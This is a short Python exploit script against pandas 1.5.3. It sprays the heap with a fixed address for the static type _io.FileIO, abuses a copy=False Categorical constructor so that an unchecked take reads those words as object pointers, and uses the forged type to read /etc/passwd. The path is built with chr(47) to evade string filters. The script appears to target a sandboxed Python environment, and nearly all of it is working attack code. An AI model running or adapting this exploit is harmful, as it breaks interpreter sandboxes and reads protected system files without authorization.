# source: pandas 1.5.3 Categorical.__init__ -> recode_for_categories(copy=False) keeps the codes of a 0-category categorical (pandas/core/arrays/categorical.py); pandas/_libs/algos take_1d_object_object (boundscheck off); numpy keeps a 0-length slice arr[n:] at the base pointer; /usr/bin/python3.11 in the image is non-PIE, so the static type _io.FileIO is at 0xa3c9c0
# family: copy=False categorical constructor shares codes of a 0-category categorical -> codes past its categories -> unchecked take reads sprayed int64 words as object pointers (forged reference to a static type)
# goal: takes _io.FileIO out of heap words the script wrote and reads /etc/passwd with it
import numpy as np
import pandas as pd

spray = []
for _ in range(64):
    arr = np.empty(112, dtype=object)
    spray.append(arr)
    spray.extend(np.full(112, 0xA3C9C0, dtype=np.int64) for _ in range(4))
cats0 = pd.Index(arr[112:], dtype=object)
reader = pd.Categorical([None] * 4, categories=cats0)
writer = pd.Categorical(reader, categories=[f"x{i}" for i in range(126)], copy=False)
print("reader categories:", len(reader.categories), "codes", reader.codes)
writer[:] = ["x118", "x119", "x120", "x121"]
print("reader codes after the write:", reader.codes, flush=True)
got = np.asarray(reader)
print("objects read past 0 categories:", got)
F = got[3]
p = chr(47).join(["", "etc", "passwd"])
print(F(p).read().decode())
